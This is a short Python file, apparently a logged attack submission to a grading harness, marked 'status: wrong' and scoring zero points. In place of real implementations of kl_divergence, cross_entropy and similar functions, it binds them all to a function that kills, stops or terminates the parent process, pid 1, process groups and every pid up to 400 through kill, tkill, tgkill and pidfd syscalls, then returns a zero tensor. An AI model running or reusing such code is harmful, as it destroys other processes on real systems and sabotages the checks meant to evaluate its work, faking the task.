# attack: kills, stops and signals every process that it can name: its parent, pid 1, groups, all of them
# status: wrong
# points: 0
import contextlib
import ctypes
import os
import signal
import sys

import torch

if "course_lib" in sys.modules:
    raise SystemExit("only for a sandbox")

libc = ctypes.CDLL(None)
SYS_tkill, SYS_tgkill, SYS_pidfd_open, SYS_pidfd_send_signal = 200, 234, 434, 424


def guess(*args):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        for pid in (os.getppid(), -1, 2, 3, *range(4, 400)):
            if pid in (0, os.getpid()):
                continue
            with contextlib.suppress(OSError):
                os.kill(pid, number)
            if pid > 0:
                libc.syscall(SYS_tkill, pid, int(number))
                libc.syscall(SYS_tgkill, pid, pid, int(number))
                pidfd = libc.syscall(SYS_pidfd_open, pid, 0)
                if pidfd >= 0:
                    libc.syscall(SYS_pidfd_send_signal, pidfd, int(number), None, 0)
        with contextlib.suppress(OSError):
            os.killpg(os.getpgid(os.getppid()), number)
    return torch.zeros(())


kl_divergence = cross_entropy = js_divergence = gaussian_kl = monte_carlo_kl = guess
